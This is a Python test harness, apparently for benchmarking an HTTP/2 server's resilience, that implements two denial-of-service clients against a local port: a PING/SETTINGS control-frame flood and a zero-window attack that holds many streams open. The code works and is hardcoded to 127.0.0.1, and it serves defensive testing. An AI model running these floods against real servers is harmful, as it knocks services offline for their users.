"""Hostile HTTP/2 clients for bench/h2_attack.sh (h2c with prior knowledge).

  h2_attack.py flood PORT ping|settings BATCH SECONDS PROBE_PORT PID...
      Sends PING (or SETTINGS) frames, BATCH per write, for at most SECONDS, and never
      reads the answers; meanwhile another thread asks PROBE_PORT for "/" over HTTP/1.0
      every 10 ms. Then reads what the server sent. Prints one line of key=value:
        answered   answers (PING or SETTINGS ACK) before the server's GOAWAY
        goaway     its error code (- when none came)
        stop_ms    when the client had sent answered+1 frames: about when the server
                   stopped answering
        reset_ms   when a write failed because the server closed (- when none did)
        sent       frames written
        cpu_ms     CPU time of PID... (every thread) during the flood
        probe_ms   the slowest probe: how long the server's loop could not answer

  h2_attack.py held PORT CONNECTIONS STREAMS PATH READY_FILE
      Opens CONNECTIONS connections, each announcing SETTINGS_INITIAL_WINDOW_SIZE 0 and
      asking for PATH on STREAMS streams; once every response head is in, creates
      READY_FILE and holds the streams until killed.
"""

import glob
import os
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
ACK, END_STREAM, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def literal_block(fields):
    """A header block of literals without indexing (names and values under 127 bytes)."""
    block = b""
    for name, value in fields:
        block += bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return block


def frames_in(data):
    """(kind, flags, stream_id, payload) of each whole frame in data."""
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        if at + 9 + length > len(data):
            return
        stream_id = int.from_bytes(data[at + 5:at + 9], "big") & 0x7FFFFFFF
        yield data[at + 3], data[at + 4], stream_id, data[at + 9:at + 9 + length]
        at += 9 + length


def cpu_seconds(pids):
    total = 0
    for pid in pids:
        for stat in glob.glob(f"/proc/{pid}/task/*/stat"):
            try:
                fields = open(stat).read().rsplit(")", 1)[1].split()
                total += int(fields[11]) + int(fields[12])
            except (OSError, IndexError, ValueError):
                pass
    return total / os.sysconf("SC_CLK_TCK")


def flood(port, kind, batch, seconds, probe_port, pids):
    one = frame(PING, 0, 0, b"floodpng") if kind == "ping" else frame(SETTINGS, 0, 0)
    stop = threading.Event()
    slowest = [0.0]

    def probe():
        while not stop.is_set():
            started = time.monotonic()
            try:
                with socket.create_connection(("127.0.0.1", probe_port), timeout=10) as conn:
                    conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    while conn.recv(65536):
                        pass
            except OSError:
                pass
            slowest[0] = max(slowest[0], time.monotonic() - started)
            time.sleep(0.01)

    prober = threading.Thread(target=probe)
    prober.start()
    conn = socket.create_connection(("127.0.0.1", port))
    conn.sendall(PREFACE + frame(SETTINGS, 0, 0))
    conn.setblocking(False)
    payload = one * batch
    # What is left of the batch a short write cut: frames must stay whole.
    pending = memoryview(payload)
    sent_bytes, timeline, reset_at = 0, [], None
    cpu_before = cpu_seconds(pids)
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        if not select.select([], [conn], [], 0.05)[1]:
            continue
        try:
            written = conn.send(pending)
        except BlockingIOError:
            continue
        except OSError:
            reset_at = time.monotonic() - started
            break
        pending = pending[written:] or memoryview(payload)
        sent_bytes += written
        timeline.append((time.monotonic() - started, sent_bytes // len(one)))
    cpu_used = cpu_seconds(pids) - cpu_before
    stop.set()
    prober.join()
    conn.setblocking(True)
    conn.settimeout(3)
    received = b""
    try:
        while True:
            chunk = conn.recv(1 << 20)
            if not chunk:
                break
            received += chunk
    except OSError:
        pass
    answered, goaway = 0, "-"
    for frame_kind, flags, _, body in frames_in(received):
        if frame_kind == GOAWAY:
            goaway = int.from_bytes(body[4:8], "big")
            break
        if frame_kind in (PING, SETTINGS) and flags & ACK and (frame_kind == PING) == (kind == "ping"):
            answered += 1
    stop_at = next((at for at, count in timeline if count > answered), None)
    ms = lambda value: "-" if value is None else f"{value * 1000:.1f}"
    print(
        f"answered={answered} goaway={goaway} stop_ms={ms(stop_at)} reset_ms={ms(reset_at)} "
        f"sent={sent_bytes // len(one)} cpu_ms={cpu_used * 1000:.0f} probe_ms={slowest[0] * 1000:.1f}"
    )


def held(port, connections, streams, path, ready):
    request = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    conns = []
    for _ in range(connections):
        conn = socket.create_connection(("127.0.0.1", port))
        conn.settimeout(30)
        out = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0))
        for index in range(streams):
            out += frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, literal_block(request))
        conn.sendall(out)
        conns.append(conn)
    for conn in conns:
        received, heads = b"", 0
        while heads < streams:
            chunk = conn.recv(1 << 20)
            if not chunk:
                sys.exit("a connection closed before every head came")
            received += chunk
            kinds = [kind for kind, _, _, _ in frames_in(received)]
            if RST_STREAM in kinds or GOAWAY in kinds:
                sys.exit("a stream was reset or the connection refused")
            heads = kinds.count(HEADERS)
        conn.sendall(frame(SETTINGS, ACK, 0))
    open(ready, "w").close()
    while True:
        time.sleep(60)


def main(args):
    if args[0] == "flood":
        port, kind, batch, seconds, probe_port = args[1:6]
        flood(int(port), kind, int(batch), float(seconds), int(probe_port), [int(pid) for pid in args[6:]])
    elif args[0] == "held":
        port, connections, streams, path, ready = args[1:6]
        held(int(port), int(connections), int(streams), path, ready)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
